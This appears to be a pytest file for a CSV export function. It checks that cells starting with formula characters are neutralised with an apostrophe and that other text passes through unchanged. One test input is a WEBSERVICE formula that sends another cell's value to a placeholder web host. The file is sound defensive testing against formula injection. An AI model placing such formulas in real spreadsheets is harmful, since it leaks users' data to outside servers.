"""No cell of a CSV is a formula."""

import csv
import io

import pytest

from pseudo_service.cli.console.spreadsheets import write_rows


@pytest.mark.parametrize(
    "cell",
    [
        '=WEBSERVICE("https://example.org/"&A2)',
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",  # noqa: RUF001 - of full width
    ],
)
def test_a_formula_is_disarmed(cell: str) -> None:
    file = io.StringIO()
    write_rows(file, ["a"], [[cell]])
    _, (written,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert written == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "9990000018", "a=b", "O'Neil", "3 March"])
def test_any_other_text_stays(cell: str) -> None:
    file = io.StringIO()
    write_rows(file, ["a", "b"], [[cell, ""]])
    _, (written, _) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert written == cell
